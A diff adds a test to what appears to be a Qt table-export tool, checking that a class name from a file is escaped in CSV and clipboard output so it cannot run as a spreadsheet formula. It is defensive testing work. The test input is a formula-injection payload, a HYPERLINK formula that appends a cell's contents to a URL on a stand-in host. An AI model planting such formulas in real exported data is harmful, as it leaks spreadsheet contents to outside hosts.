@@ -94,6 +94,18 @@ def test_bars_transitions_scenarios_and_the_curve_give_their_figures(window):
     assert curve.table()[1:] == (("1", "0.5", ""), ("2", "0.25", "0.875"))
 
 
+def test_a_name_out_of_a_file_is_no_formula_for_a_spreadsheet(window, tmp_path):
+    """In a file and on the clipboard; what the table shows is the name as it is."""
+    name = '=HYPERLINK("http://example.org/?"&A1)'
+    transitions = TransitionTable(window)
+    transitions.show_transitions([Transition(1, 2, 7, 12.5)], [ClassEntry(1, name, "#ffff00")])
+    transitions.exports.save_csv(str(tmp_path / "a.csv"))
+    transitions.exports.copy()
+    assert read(tmp_path / "a.csv")[1] == ["'" + name, "no class", "12.5"]
+    assert "\t=" not in "\t" + QApplication.clipboard().text().splitlines()[1].replace('"', "")
+    assert transitions.table()[1][0] == name
+
+
 def test_a_picture_shows_all_rows_and_columns_sharply_and_leaves_the_table_as_it_was(heat, tmp_path):
     size, place = heat.size(), heat.verticalScrollBar().setValue(3) or heat.verticalScrollBar().value()
     heat.exports.save_picture(str(tmp_path / "table.png"))
